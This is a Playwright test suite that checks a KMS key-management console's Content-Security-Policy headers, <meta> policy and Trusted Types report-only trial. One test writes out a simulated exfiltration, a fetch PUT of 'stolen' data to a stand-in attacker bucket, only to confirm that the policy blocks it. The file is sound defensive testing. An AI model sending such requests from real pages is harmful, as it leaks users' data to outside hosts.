// The console served with exactly the hosted security headers (scripts/csp.py, the one source)
// runs its main flow with zero Content-Security-Policy violations and no unexpected console errors.
// Two policies are enforced: the header (one wildcard per AWS DNS suffix in connect-src) and the
// <meta> tag of index.html (the exact KMS/STS hosts), both with the local peer added by the static
// server (--local-peer). The last test is the Trusted Types report-only trial (csp.py, deploy/README.md).
import { ChildProcess, execFile, spawn } from 'node:child_process';
import * as net from 'node:net';
import * as path from 'node:path';
import { promisify } from 'node:util';
import { expect, Page, test } from '@playwright/test';
import { Demo, useDemoFleet } from './support/demo';
import { cliRotationStatus, consoleUrl, peerUrl, peerUrlAlias, PYTHON, REPO_ROOT } from './support/peer';
import { connect, countOps, openKeyPanel, trackAwsRequests, waitForInventory } from './support/ui';

const execFileAsync = promisify(execFile);

/** `python scripts/csp.py ARGS...`: its stdout. */
async function cspPy(...args: string[]): Promise<string> {
  const { stdout } = await execFileAsync(PYTHON, ['scripts/csp.py', ...args], { cwd: REPO_ROOT, timeout: 60_000 });
  return stdout;
}

/** The peer by address and by host name, as scripts/test.sh passes them to the static server. */
const peerArgs = (): string[] => ['--local-peer', peerUrl(), '--local-peer', peerUrlAlias()];

/** `csp.py headers --local-peer PEER ...`: the `Name: value` lines the static server must send. */
async function expectedHeaders(...extra: string[]): Promise<[string, string][]> {
  const stdout = await cspPy('headers', ...peerArgs(), ...extra);
  return stdout
    .split('\n')
    .filter((line) => line.trim())
    .map((line) => {
      const i = line.indexOf(': ');
      if (i < 0) throw new Error(`csp.py headers printed a line that is not "Name: value": ${line}`);
      return [line.slice(0, i), line.slice(i + 2)];
    });
}

/** The sources of one directive of a policy (undefined when the policy has no such directive). */
function sources(policy: string, directive: string): string[] | undefined {
  for (const part of policy.split(';')) {
    const [name, ...values] = part.trim().split(/\s+/);
    if (name === directive) return values;
  }
  return undefined;
}

interface Violation {
  directive: string;
  effective: string;
  blocked: string;
  disposition: string;
  policy: string;
  source: string;
  sample: string;
}

/** Records every `securitypolicyviolation` (enforced and report-only alike), from before any page
 *  script runs, so a violation during start-up is caught too. */
async function recordViolations(page: Page): Promise<() => Promise<Violation[]>> {
  await page.addInitScript(() => {
    const w = window as unknown as { __cspViolations: unknown[] };
    w.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      w.__cspViolations.push({
        directive: e.violatedDirective,
        effective: e.effectiveDirective,
        blocked: e.blockedURI,
        disposition: e.disposition,
        policy: e.originalPolicy,
        source: `${e.sourceFile}:${e.lineNumber}`,
        sample: e.sample,
      });
    });
  });
  return async () => page.evaluate(() => (window as unknown as { __cspViolations: Violation[] }).__cspViolations ?? []);
}

/** Connect, inventory, a key panel, one on-demand rotation, automatic rotation with a period
 *  saved, disconnect: on the page as it is (already at the console). */
async function mainFlow(page: Page, demo: Demo): Promise<void> {
  const seen = trackAwsRequests(page);
  await connect(page, demo.creds, { goto: false });
  await waitForInventory(page, demo.fleet.ids());

  const key = demo.fleet.plainRotatable();
  const panel = await openKeyPanel(page, key.KeyId);
  await panel.getByTestId('rotate-now').click();
  await expect(page.getByTestId('rotate-dialog')).toBeVisible();
  await page.getByTestId('confirm-rotate').click();
  await expect.poll(() => countOps(seen, 'RotateKeyOnDemand'), { message: 'RotateKeyOnDemand never sent' }).toBe(1);
  await expect(panel.getByTestId('rotation-in-progress')).toBeHidden({ timeout: 90_000 });
  await page.getByTestId('key-panel-close').click();

  const off = demo.fleet.autoRotationOff();
  const autoPanel = await openKeyPanel(page, off.KeyId);
  await autoPanel.getByTestId('auto-rotation-toggle').check();
  await autoPanel.getByTestId('rotation-period').fill('180');
  await autoPanel.getByTestId('save-rotation-settings').click();
  await expect(autoPanel.getByTestId('rotation-period')).toHaveValue('180');
  await expect(autoPanel.getByTestId('auto-rotation-toggle')).toBeChecked();
  await expect.poll(() => countOps(seen, 'EnableKeyRotation'), { message: 'EnableKeyRotation never sent' }).toBe(1);
  await expect.poll(async () => (await cliRotationStatus(demo.creds, 'us-east-1', off.KeyId)).RotationPeriodInDays).toBe(180);
  await page.getByTestId('key-panel-close').click();

  await page.getByTestId('disconnect').click();
  await expect(page.getByTestId('credentials-paste')).toBeVisible();
  // Late reports (the favicon, a last fetch) arrive asynchronously.
  await page.waitForTimeout(1_000);
}

// The flow rotates a key and changes a rotation period: start from the seeded demo fleet.
const demo = useDemoFleet('each');

test('/ is served with exactly the headers of scripts/csp.py', async ({ request }) => {
  const expected = await expectedHeaders();
  expect(expected.map(([n]) => n)).toContain('Content-Security-Policy');
  const response = await request.get(consoleUrl() + '/');
  expect(response.status()).toBe(200);
  const got = response.headers();
  for (const [name, value] of expected) {
    expect(got[name.toLowerCase()], `header ${name} of /`).toBe(value);
  }
  // No second policy or stray security header beside the generated ones (a duplicated CSP would
  // make the test meaningless). A report-only policy is there only when csp.py generates one
  // (TRUSTED_TYPES_REPORT_ONLY); the <meta> policy is in the body, checked below.
  const generated = new Set(expected.map(([n]) => n.toLowerCase()));
  const securityish = Object.keys(got).filter((n) =>
    /content-security-policy|strict-transport|x-frame|x-content-type|referrer-policy|permissions-policy|cross-origin-/.test(n),
  );
  expect(securityish.filter((n) => !generated.has(n)), 'security headers not generated by csp.py').toEqual([]);
  expect(got['content-security-policy'], 'more than one Content-Security-Policy header').not.toContain(', default-src');
  if (got['content-security-policy-report-only'] !== undefined) {
    expect(got['content-security-policy-report-only'], 'more than one report-only header').not.toContain(', ');
  }
});

test('index.html has exactly one <meta> policy: connect-src with every endpoint, no wildcard, first in <head>', async ({ page, request }) => {
  const expectedPolicy = (await cspPy('meta-csp', ...peerArgs())).trim();
  const endpoints = (await cspPy('endpoints')).split('\n').filter((l) => l.trim()).map((u) => u.replace(/\/$/, ''));
  expect(endpoints.length, 'csp.py endpoints listed nothing').toBeGreaterThan(300);

  // The served bytes, under / and under a deep link (the static server's index.html fallback).
  for (const route of ['/', '/keys/us-east-1/1234abcd-12ab-34cd-56ef-1234567890ab']) {
    const html = await (await request.get(consoleUrl() + route)).text();
    const tags = html.match(/<meta\b[^>]*http-equiv\s*=\s*["']?content-security-policy\b[^>]*>/gi) ?? [];
    expect(tags.length, `<meta> Content-Security-Policy tags in ${route}`).toBe(1);
    expect(tags[0]).toBe(`<meta http-equiv="Content-Security-Policy" content="${expectedPolicy}">`);
  }

  // As the browser parsed it.
  await page.goto(consoleUrl() + '/');
  const dom = await page.evaluate(() => {
    const metas = [...document.querySelectorAll('meta')].filter(
      (m) => (m.getAttribute('http-equiv') ?? '').toLowerCase() === 'content-security-policy',
    );
    // Everything in <head> that fetches, and where the policy is among them.
    const head = [...document.head.querySelectorAll('meta[http-equiv], link, script')];
    return {
      count: metas.length,
      content: metas[0]?.getAttribute('content') ?? '',
      inHead: metas[0]?.parentElement === document.head,
      firstOfHead: head[0] === metas[0],
      afterCharset: document.head.firstElementChild?.getAttribute('charset') === 'utf-8' && document.head.children[1] === metas[0],
    };
  });
  expect(dom.count, 'one <meta> Content-Security-Policy in the DOM').toBe(1);
  expect(dom.content).toBe(expectedPolicy);
  expect(dom.inHead && dom.firstOfHead && dom.afterCharset, 'the <meta> policy is the first element after the charset').toBe(true);

  // connect-src only: a <meta> policy ignores frame-ancestors, report-uri and sandbox.
  expect(dom.content.split(';').map((d) => d.trim().split(/\s+/)[0])).toEqual(['connect-src']);
  const connect = sources(dom.content, 'connect-src') ?? [];
  expect(connect.filter((s) => s.includes('*')), 'wildcards in the <meta> connect-src').toEqual([]);
  expect(connect.filter((s) => s !== "'self'" && !endpoints.includes(s) && s !== peerUrl() && s !== peerUrlAlias()), 'sources that are no endpoint').toEqual([]);
  expect(endpoints.filter((e) => !connect.includes(e)), 'endpoints missing from the <meta> connect-src').toEqual([]);
  expect(connect).toContain(peerUrl());
  expect(connect).toContain(peerUrlAlias());
});

test('a host the header wildcard allows but the <meta> policy does not is blocked by CSP before any request', async ({ page }) => {
  const violations = await recordViolations(page);
  const response = await page.goto(consoleUrl() + '/');
  const header = response?.headers()['content-security-policy'] ?? '';
  // The header alone would let it through: https://*.amazonaws.com.
  expect(sources(header, 'connect-src'), 'the header has no AWS wildcard (is this the hosted policy?)').toContain('https://*.amazonaws.com');
  const metaPolicy = (await cspPy('meta-csp', ...peerArgs())).trim();
  await expect(page.getByTestId('credentials-paste')).toBeVisible({ timeout: 60_000 });

  // No network here: a request that got past CSP would fail on DNS, and CSP decides before that,
  // so the violation event is the oracle.
  const requests: string[] = [];
  page.on('request', (r) => {
    if (r.url().includes('.amazonaws.com')) requests.push(r.url());
  });
  const evil = 'https://evil-bucket.s3.amazonaws.com/';
  const result = await page.evaluate(
    (url) => fetch(url, { method: 'PUT', body: 'stolen' }).then((r) => `status ${r.status}`, (e) => String(e)),
    evil,
  );
  expect(result, 'the fetch was not refused').toMatch(/TypeError/);
  await expect
    .poll(async () => (await violations()).filter((v) => v.blocked.startsWith('https://evil-bucket.s3.amazonaws.com')).length)
    .toBe(1);
  const [blocked] = (await violations()).filter((v) => v.blocked.startsWith('https://evil-bucket.s3.amazonaws.com'));
  expect(blocked.effective).toBe('connect-src');
  expect(blocked.disposition).toBe('enforce');
  // The <meta> policy blocked it; the header (whose wildcard allows it) reported nothing.
  expect(blocked.policy, 'blocked by another policy than the <meta> one').toBe(metaPolicy);

  // An exact endpoint passes both policies: it fails only on the missing network (or the abort).
  const kms = 'https://kms.us-east-1.amazonaws.com/';
  await page.evaluate(
    (url) => fetch(url, { method: 'POST', signal: AbortSignal.timeout(3_000) }).then(() => 'ok', (e) => String(e)),
    kms,
  );
  const all = await violations();
  expect(all.filter((v) => v.blocked.startsWith('https://kms.us-east-1.amazonaws.com')), 'the KMS endpoint was blocked').toEqual([]);
  expect(all.filter((v) => !v.blocked.startsWith('https://evil-bucket.s3.amazonaws.com')), 'other violations').toEqual([]);
  // Chromium refuses it in the renderer: Playwright never sees a request (it does see the KMS one).
  expect(requests.filter((u) => u.startsWith('https://evil-bucket.')), 'a request to the bucket was started').toEqual([]);
});

test('the main flow runs under the hosted policy with no CSP violation and no unexpected console error', async ({ page }) => {
  const violations = await recordViolations(page);
  const consoleErrors: string[] = [];
  page.on('console', (msg) => {
    if (msg.type() === 'error') consoleErrors.push(`${msg.text()} @ ${msg.location().url}`);
  });
  const pageErrors: string[] = [];
  page.on('pageerror', (e) => pageErrors.push(e.message));

  const response = await page.goto(consoleUrl() + '/');
  const csp = response?.headers()['content-security-policy'] ?? '';
  expect(csp, 'the page was not served with a Content-Security-Policy').toContain("default-src 'none'");

  await mainFlow(page, demo);

  // Enforced and report-only alike, from the header and the <meta> policy.
  expect(await violations(), 'Content-Security-Policy violations').toEqual([]);
  // The demo fleet has keys whose calls KMS answers with a 400 (denied, unsupported): Chromium
  // logs each as "Failed to load resource: ... 400". Nothing else may be logged as an error.
  const unexpected = consoleErrors.filter(
    (text) => !(/^Failed to load resource: the server responded with a status of 400\b/.test(text) && text.includes(peerUrl())),
  );
  expect(unexpected, 'console errors').toEqual([]);
  expect(pageErrors, 'uncaught page errors').toEqual([]);
});

/** A free TCP port on 127.0.0.1. */
async function freePort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const server = net.createServer();
    server.once('error', reject);
    server.listen(0, '127.0.0.1', () => {
      const { port } = server.address() as net.AddressInfo;
      server.close(() => resolve(port));
    });
  });
}

// Trusted Types, report-only: the build served by a second static server with
// `--trusted-types-report-only` (nothing else differs), the main flow run, and every report
// counted. While csp.py's TRUSTED_TYPES_REPORT_ONLY is off this test only measures (the count is
// printed and attached); once it is on, the count must be zero.
test.describe('Trusted Types (report-only)', () => {
  let server: ChildProcess | undefined;
  let url = '';
  let log = '';

  test.beforeAll(async () => {
    const port = await freePort();
    const dist = process.env.KEYTURN_DIST ?? path.join(REPO_ROOT, 'dist');
    server = spawn(
      PYTHON,
      ['scripts/static_server.py', '--port', String(port), '--root', dist, '--security-headers', '--trusted-types-report-only', ...peerArgs()],
      { cwd: REPO_ROOT, stdio: ['ignore', 'pipe', 'pipe'] },
    );
    server.stdout?.on('data', (d) => (log += d));
    server.stderr?.on('data', (d) => (log += d));
    url = `http://127.0.0.1:${port}`;
    const deadline = Date.now() + 30_000;
    for (;;) {
      if (server.exitCode !== null) throw new Error(`static_server.py exited (${server.exitCode}): ${log}`);
      try {
        if ((await fetch(url + '/')).ok) break;
      } catch {
        // not listening yet
      }
      if (Date.now() > deadline) throw new Error(`static_server.py did not answer on ${url} in 30 s: ${log}`);
      await new Promise((r) => setTimeout(r, 100));
    }
  });

  test.afterAll(async () => {
    if (server && server.exitCode === null) {
      const exited = new Promise((r) => server!.once('exit', r));
      server.kill('SIGTERM');
      await Promise.race([exited, new Promise((r) => setTimeout(r, 10_000))]);
      if (server.exitCode === null) server.kill('SIGKILL');
    }
  });

  test('the main flow, counting Trusted Types reports', async ({ page }) => {
    const hosted = new Map(await expectedHeaders());
    const adopted = hosted.has('Content-Security-Policy-Report-Only');
    const trial = new Map(await expectedHeaders('--trusted-types-report-only'));
    const policy = trial.get('Content-Security-Policy-Report-Only');
    expect(policy, 'csp.py has no Trusted Types report-only policy').toContain("require-trusted-types-for 'script'");

    const violations = await recordViolations(page);
    // Chromium logs each report at level "info": "This document requires 'TrustedHTML' assignment.
    // The policy is report-only, so the violation has been logged but no further action has been taken."
    const reportOnlyMessages: string[] = [];
    page.on('console', (msg) => {
      if (/report-only/i.test(msg.text())) reportOnlyMessages.push(`${msg.type()}: ${msg.text()}`);
    });
    const pageErrors: string[] = [];
    page.on('pageerror', (e) => pageErrors.push(e.message));

    const response = await page.goto(url + '/');
    const got = response?.headers() ?? {};
    expect(got['content-security-policy-report-only']).toBe(policy);
    expect(got['content-security-policy'], 'the enforced policy is the hosted one').toBe(trial.get('Content-Security-Policy'));

    await mainFlow(page, demo);
    const all = await violations();
    const trustedTypes = all.filter((v) => v.effective === 'require-trusted-types-for' || v.effective === 'trusted-types');

    // Report-only reaches the page like an enforced violation, marked "report": a canary sink
    // assignment, made after the count, is reported and still done.
    const canary = await page.evaluate(() => {
      const div = document.createElement('div');
      div.innerHTML = '<b>tt-canary</b>';
      return div.innerHTML;
    });
    expect(canary, 'report-only blocked the assignment').toBe('<b>tt-canary</b>');
    await expect
      .poll(async () => (await violations()).filter((v) => v.sample.includes('tt-canary')).map((v) => [v.effective, v.disposition]))
      .toEqual([['require-trusted-types-for', 'report']]);

    const samples = [...new Set(trustedTypes.map((v) => v.sample))];
    const summary = `Trusted Types report-only: ${trustedTypes.length} report(s) during the main flow, ${samples.length} distinct sample(s), ${reportOnlyMessages.length} report-only console message(s)`;
    console.log(summary + (samples.length ? ':\n  ' + samples.slice(0, 20).join('\n  ') : ''));
    test.info().annotations.push({ type: 'trusted-types', description: summary });
    await test.info().attach('trusted-types-reports.json', {
      body: JSON.stringify({ reports: trustedTypes, console: reportOnlyMessages }, null, 2),
      contentType: 'application/json',
    });

    // Whatever the count, report-only changes nothing: nothing enforced fired, nothing broke.
    expect(all.filter((v) => v.disposition !== 'report'), 'enforced violations').toEqual([]);
    expect(trustedTypes.filter((v) => v.disposition !== 'report')).toEqual([]);
    expect(pageErrors, 'uncaught page errors').toEqual([]);
    if (adopted) {
      expect(trustedTypes, 'Trusted Types reports with TRUSTED_TYPES_REPORT_ONLY on').toEqual([]);
    }
  });
});
